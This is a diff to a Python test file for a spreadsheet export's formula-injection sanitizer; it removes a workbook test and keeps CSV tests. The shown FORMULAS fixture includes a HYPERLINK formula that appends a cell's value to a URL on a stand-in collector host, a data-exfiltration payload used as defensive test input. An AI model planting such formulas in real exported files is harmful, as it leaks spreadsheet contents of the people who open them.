@@ -9,10 +9,9 @@ from decimal import Decimal
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from openpyxl import load_workbook
 
 from engine.domain import sheet
-from engine.domain.sheet import Sheet, as_csv, as_workbook, harmless
+from engine.domain.sheet import as_csv, harmless
 
 FORMULAS = (
     '=HYPERLINK("http://collector.test/?"&A1,"Details")',
@@ -97,12 +96,3 @@ def test_a_table_that_leaves_formulas_alone_is_noticed(monkeypatch):
     monkeypatch.setattr(sheet, "harmless", lambda cell: cell)
 
     assert len(_formulas(as_csv(["Text"], [[formula] for formula in FORMULAS]))) >= len(FORMULAS)
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_a_workbook_holds_no_formula(formula):
-    made = as_workbook([Sheet("Figures", ("Said", "n"), ((formula, 7),))])
-
-    said, number = load_workbook(io.BytesIO(made))["Figures"][2]
-    assert (said.data_type, number.value) == ("s", 7)
-    assert harmless(said.value) == said.value
